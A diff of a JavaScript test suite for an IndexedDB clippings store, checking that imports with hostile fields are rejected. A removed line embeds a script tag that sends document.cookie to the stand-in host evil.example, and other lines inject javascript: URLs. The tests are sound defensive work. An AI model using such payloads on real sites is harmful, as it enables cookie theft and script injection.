@@ -185,12 +185,12 @@ describe('the clippings store (IndexedDB)', () => {
       store.close();
     });
 
-    it('refuses script in a quote, and a javascript: source', async () => {
+    it('refuses a javascript: source or page URL (not text), whole', async () => {
       const store = await storeWithTwo();
       const before = await snapshot(store);
-      const hostile = JSON.parse(toAnnotationJson([clipping(7)]));
-      hostile.first.items[0].target.selector[0].exact = 'Shares rose <script>fetch("https://evil.example/"+document.cookie)</script>';
-      await expect(store.importFile(JSON.stringify(hostile))).rejects.toThrow(/exact: contains markup or script/);
+      const badPage = JSON.parse(toAnnotationJson([clipping(7), clipping(8)]));
+      badPage.first.items[1].thesisLens.page.url = 'javascript:alert(1)';
+      await expect(store.importFile(JSON.stringify(badPage))).rejects.toThrow(/first\.items\[1\]\.thesisLens\.page\.url: expected an http\(s\) URL/);
       const badSource = JSON.parse(toAnnotationJson([clipping(7)]));
       badSource.first.items[0].target.source = 'javascript:alert(1)';
       await expect(store.importFile(JSON.stringify(badSource))).rejects.toThrow(/target\.source: expected an http\(s\) URL/);
